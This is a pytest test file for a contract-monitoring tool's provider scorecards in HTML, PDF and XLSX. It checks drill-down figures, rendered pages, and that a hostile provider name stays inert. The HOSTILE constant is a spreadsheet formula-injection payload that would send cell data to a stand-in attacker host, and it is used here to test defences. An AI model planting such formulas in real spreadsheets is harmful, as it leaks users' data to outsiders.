"""Provider scorecards as HTML, PDF and XLSX: drill-down behind every figure, print CSS, inert spreadsheet text."""

from __future__ import annotations

import io
import sqlite3
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlmodel import select

from cjmonitor.db import session_scope
from cjmonitor.documents import render_one
from cjmonitor.settings import get_settings
from contracts.models import Contract, Judgement, Provider, Submission
from tests.deps import poppler

CONTRACT, PERIOD = "CRC-E23000005", "2025-12"
HOSTILE = '=HYPERLINK("http://attacker.example/?d="&A1,"Open report")'


@pytest.fixture(scope="module")
def card(demo_home):
    html = demo_home / "out" / "scorecards" / PERIOD / f"{CONTRACT}.html"
    return html, html.with_suffix(".pdf"), html.with_suffix(".xlsx")


def test_pdf_has_page_numbers_drill_down_and_submissions(card, demo_home):
    _html, pdf, _xlsx = card
    text = " ".join(poppler(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout.split())
    assert "Page 1 of" in text and f"{CONTRACT} scorecard, {PERIOD}" in text
    assert "The judged months behind each KPI" in text and "judged months, latest first" in text
    with session_scope(get_settings(demo_home)) as session:
        provider_id = session.get(Contract, CONTRACT).provider_id
        used = session.exec(select(Submission).where(Submission.period == PERIOD, Submission.is_current,
                                                     Submission.provider_id == provider_id)).all()
    assert used and all(s.file_name in text for s in used), "the returns behind the figures are named"


def test_pdf_pages_are_drawn(card, tmp_path):
    _html, pdf, _xlsx = card
    poppler(["pdftoppm", "-r", "40", "-png", "-f", "1", "-l", "2", str(pdf), str(tmp_path / "page")], check=True)
    import matplotlib.image as mpimg

    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) == 2
    for page in pages:
        ink = (mpimg.imread(page)[..., :3].mean(axis=2) < 0.9).mean()
        assert 0.01 < ink < 0.6, f"{page.name} looks blank or solid ({ink:.3f})"


def test_xlsx_drill_down_equals_the_database(card, demo_home):
    _html, _pdf, xlsx = card
    book = load_workbook(xlsx)
    assert book.sheetnames == ["contract", "kpis", "judged_months", "submissions", "outcome_evidence"]
    months = pd.read_excel(xlsx, sheet_name="judged_months")
    with session_scope(get_settings(demo_home)) as session:
        judged = session.exec(select(Judgement).where(Judgement.contract_id == CONTRACT, Judgement.period <= PERIOD)).all()
    assert len(months) == len(judged)
    row = months[(months["measure_code"] == "crc_plan_15wd") & (months["period"] == pd.Timestamp(f"{PERIOD}-01"))].iloc[0]
    truth = next(j for j in judged if j.measure_code == "crc_plan_15wd" and j.period == PERIOD)
    assert row["numerator"] == truth.numerator and row["denominator"] == truth.denominator
    assert abs(row["value"] - truth.value) < 1e-12
    sheet = book["judged_months"]
    header = [c.value for c in sheet[1]]
    value = sheet.cell(row=2, column=header.index("value") + 1)
    assert isinstance(value.value, float) and value.number_format == "0.0%"
    assert sheet.cell(row=2, column=header.index("period") + 1).is_date
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    kpis = pd.read_excel(xlsx, sheet_name="kpis")
    plan = kpis[kpis["code"] == "crc_plan_15wd"].iloc[0]
    last12 = [j for j in judged if j.measure_code == "crc_plan_15wd" and j.period > str(pd.Period(PERIOD, "M") - 12)]
    assert plan["red_months_in_last_12"] == sum(j.rag == "Red" for j in last12)


def test_hostile_provider_name_is_inert_in_every_format(demo_home, tmp_path):
    home = tmp_path / "home"
    (home / "var").mkdir(parents=True)
    with sqlite3.connect(demo_home / "var" / "cjmonitor.db") as source, sqlite3.connect(home / "var" / "cjmonitor.db") as target:
        source.backup(target)
    settings = get_settings(home)
    with session_scope(settings) as session:
        provider = session.exec(select(Provider).join_from(Provider, Submission, Provider.id == Submission.provider_id)
                                .where(Submission.file_name.like(f"%{PERIOD}%"))).first()
        provider.name = HOSTILE
        session.add(provider)
        provider_id = provider.id
    with session_scope(settings) as session:
        contract_id = session.exec(select(Contract.id).where(Contract.provider_id == provider_id)).first()
    _kind, paths, _seconds, _cpu = render_one(settings, "scorecard", contract_id, PERIOD)
    (html,) = [p for p in paths if p.endswith(".html")]
    (xlsx,) = [p for p in paths if p.endswith(".xlsx")]
    data = open(xlsx, "rb").read()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), f"a formula in {name}"
    cell = load_workbook(io.BytesIO(data))["contract"]["C2"]
    assert cell.value == "'" + HOSTILE and cell.data_type == "s"
    page = open(html).read()
    assert HOSTILE not in page and "=HYPERLINK(&#34;http" in page  # escaped, never markup


def test_the_spc_footnote_names_the_charts_the_scorecard_draws(demo_home):
    """Not "a p-chart" for every KPI: the footnote lists each chart kind in the view, with its count."""
    from tests.test_second_office import expected_spc_footnote, page_text, spc_footnote

    for contract_id in (CONTRACT, "TTG-E23000005", "EM-E23000005"):
        html = demo_home / "out" / "scorecards" / PERIOD / f"{contract_id}.html"
        footnote = spc_footnote(page_text(html))
        assert footnote == expected_spc_footnote(demo_home, contract_id, PERIOD)
        assert not footnote.startswith("no KPI"), "two years of demo months give every KPI a chart"
